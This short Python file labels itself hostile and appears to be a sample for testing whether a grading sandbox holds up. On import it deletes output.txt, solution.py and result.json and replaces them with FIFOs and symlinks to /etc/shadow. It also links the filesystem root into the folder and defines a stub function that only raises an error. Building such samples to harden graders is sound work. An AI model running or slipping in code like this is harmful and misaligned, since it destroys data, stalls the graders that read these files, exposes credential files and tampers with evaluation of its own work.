# hostile: replaces every file in its folder with FIFOs and links to the grader's secrets
import os

for name in ("output.txt", "solution.py", "result.json"):
    for make in (lambda n: os.mkfifo(n), lambda n: os.symlink("/etc/shadow", n)):
        try:
            if os.path.lexists(name):
                os.unlink(name)
            make(name)
        except OSError:
            pass
try:
    os.symlink("/", "root")
except OSError:
    pass


def lstm_cell(*args):
    raise RuntimeError("files replaced")
